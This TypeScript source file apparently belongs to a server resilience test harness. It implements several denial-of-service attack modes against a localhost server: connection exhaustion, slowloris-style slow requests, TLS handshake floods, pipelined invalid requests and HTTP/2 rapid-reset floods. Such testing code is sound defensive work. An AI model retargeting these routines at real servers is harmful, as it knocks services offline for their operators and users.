/**
 * An attack, as a program. The first argument is an {@link AttackTask} as JSON. It prints a line when it is at its height, goes on until
 * its standard input ends, and then prints an {@link AttackResult} as JSON.
 */
import net from "node:net";
import tls from "node:tls";
import { Requests } from "../load/requests.ts";
import { type Attack, hostAddress } from "./attacks.ts";
import { H2_PREFACE, HALF_HELLO, invalidRequests, REQUESTS, resets } from "./bytes.ts";

export interface AttackTask extends Pick<Attack, "what" | "hosts" | "connections"> {
  readonly port: number;
  /** It says that it is at its height at the latest after this time. */
  readonly leadSeconds: number;
}

export interface AttackResult {
  /** Connections that are open at the end. */
  readonly open: number;
  /** Connections that were opened, with a handshake if the attack has one. */
  readonly opened: number;
  /** Connections that the server ended or refused. */
  readonly ended: number;
  /** Requests, resets or handshakes. */
  readonly sent: number;
  /** Responses by status. */
  readonly statuses: Readonly<Record<string, number>>;
}

/** Pause before a connection that the server ended is opened again. */
const AGAIN_MS = 100;
/** How often a slow request goes on. */
const SLOW_MS = 1_000;
/** Requests or streams of h2 in one write. */
const POURED = 100;
/** Connections that are being opened at a time. More would only time out. */
const OPENING = 200;
/** The device of the attacker's first connection: others than the honest ones. */
const FIRST_DEVICE = 1_000_000;

const task: AttackTask = JSON.parse(process.argv[2]!);
const requests = new Requests();
const open = new Set<net.Socket>();
const statuses: Record<string, number> = {};
let [opened, ended, sent, opening, stopped] = [0, 0, 0, 0, false];

/** Opens a socket; with TLS, shakes hands with a client's certificate. */
function connect(n: number): net.Socket {
  const address = { host: "127.0.0.1", port: task.port, localAddress: hostAddress(n % task.hosts) };
  if (task.what === "idle" || task.what === "half-open") return net.connect(address);
  const ALPNProtocols = [task.what === "rapid-reset" ? "h2" : "http/1.1"];
  // Throws if the certificate is of no use.
  return tls.connect({ ...address, ...requests.client(FIRST_DEVICE + n), rejectUnauthorized: false, ALPNProtocols });
}

/** Sends again and again what `next` gives, each when the socket has taken the one before. */
function pour(socket: net.Socket, next: () => Uint8Array): void {
  const go = () => {
    if (stopped || socket.destroyed) return;
    sent += POURED;
    if (socket.write(next())) setImmediate(go);
    else socket.once("drain", go);
  };
  go();
}

/** Sends `request`, and again when a response has come. */
function ask(socket: net.Socket, request: Uint8Array): void {
  const go = () => {
    if (stopped) return;
    sent++;
    socket.write(request);
  };
  socket.on("data", (data) => {
    const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString("latin1"))?.[1];
    if (status === undefined) return;
    statuses[status] = (statuses[status] ?? 0) + 1;
    go();
  });
  go();
}

/** A byte of a request every second. */
function dribble(socket: net.Socket): void {
  const request = REQUESTS["look-ups"]();
  let at = 0;
  const timer = setInterval(() => socket.write(request.subarray(at, ++at)), SLOW_MS);
  socket.once("close", () => clearInterval(timer));
}

const request = task.what in REQUESTS ? REQUESTS[task.what as keyof typeof REQUESTS]() : undefined;

function attack(socket: net.Socket): void {
  switch (task.what) {
    case "idle":
      return;
    case "half-open":
      socket.write(HALF_HELLO);
      return;
    case "slow":
      dribble(socket);
      return;
    case "handshakes":
      sent++;
      socket.destroy();
      return;
    case "pipelined":
      pour(socket, () => invalidRequests(POURED));
      return;
    case "rapid-reset": {
      if ((socket as tls.TLSSocket).alpnProtocol !== "h2") {
        socket.destroy();
        return;
      }
      socket.write(H2_PREFACE);
      let stream = 1;
      pour(socket, () => {
        stream += 2 * POURED;
        return resets(stream - 2 * POURED, POURED);
      });
      return;
    }
    default:
      ask(socket, request!);
  }
}

/** Connections that wait until fewer are being opened. */
const waiting: number[] = [];

/** Keeps connection `n` open as long as the attack lasts. */
function hold(n: number): void {
  if (stopped) return;
  if (opening >= OPENING) {
    waiting.push(n);
    return;
  }
  opening++;
  let settled = false;
  const settle = () => {
    if (settled) return;
    settled = true;
    opening--;
    const next = waiting.shift();
    if (next !== undefined) hold(next);
  };
  const socket = connect(n);
  socket.once(socket instanceof tls.TLSSocket ? "secureConnect" : "connect", () => {
    opened++;
    open.add(socket);
    settle();
    attack(socket);
  });
  socket.on("error", () => {});
  socket.resume();
  socket.once("close", () => {
    open.delete(socket);
    settle();
    if (stopped) return;
    ended++;
    setTimeout(() => hold(n), task.what === "handshakes" ? 0 : AGAIN_MS);
  });
}

for (let n = 0; n < task.connections; n++) hold(n);
const height = performance.now() + task.leadSeconds * 1000;
while (open.size < task.connections && performance.now() < height) await Bun.sleep(10);
console.log("at its height");
process.stdin.resume();
await new Promise((resolve) => process.stdin.once("end", resolve));
stopped = true;
const result: AttackResult = { open: open.size, opened, ended, sent, statuses };
console.log(JSON.stringify(result));
process.exit(0);
